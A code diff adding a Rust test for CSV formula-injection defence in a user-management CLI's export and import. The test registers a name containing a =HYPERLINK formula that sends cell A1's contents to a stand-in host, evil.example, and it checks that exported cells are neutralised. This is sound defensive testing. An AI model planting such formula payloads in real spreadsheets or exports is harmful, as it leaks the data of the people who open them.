@@ -586,3 +586,55 @@ fn foreign_hash_costs_are_accepted_up_to_the_documented_caps() {
     let run = env.run(&["--json", "import", &file, "--no-email"], "").ok();
     assert_eq!(run.json()["created"], 2);
 }
+
+/// A self-registered name that a spreadsheet would run (`=HYPERLINK(…)`) leaves a CSV export as
+/// text (`'=…`), and a CSV import of that export gets the name back exactly; JSON Lines is as is.
+#[test]
+fn csv_export_quotes_formulas_and_import_unquotes_them() {
+    let env = Env::admin();
+    let evil = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")";
+    env.run(
+        &[
+            "register",
+            "--email",
+            ALICE,
+            "--first-name",
+            evil,
+            "--last-name=-1+2",
+            "--password-stdin",
+        ],
+        &format!("{ALICE_PW}\n"),
+    )
+    .ok();
+    let csv = env.run(&["export", "--format", "csv"], "").ok().stdout;
+    let mut reader = csv::Reader::from_reader(csv.as_bytes());
+    let alice = reader
+        .records()
+        .map(Result::unwrap)
+        .find(|r| r.get(0) == Some(ALICE))
+        .unwrap();
+    assert_eq!(alice.get(1), Some(format!("'{evil}").as_str()));
+    assert_eq!(alice.get(2), Some("'-1+2"));
+    for cell in alice.iter() {
+        assert!(
+            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+            "{cell:?}"
+        );
+    }
+    let jsonl = env.run(&["export", "--format", "jsonl"], "").ok().stdout;
+    assert!(jsonl.contains("\"first_name\":\"=HYPERLINK"), "{jsonl}");
+    let fresh = Env::admin();
+    let path = write(&fresh, "dump.csv", &csv);
+    fresh
+        .run(
+            &["import", &path, "--no-email", "--on-conflict", "skip"],
+            "",
+        )
+        .ok();
+    let shown = fresh
+        .run(&["--json", "users", "show", ALICE], "")
+        .ok()
+        .json();
+    assert_eq!(shown["first_name"], evil);
+    assert_eq!(shown["last_name"], "-1+2");
+}
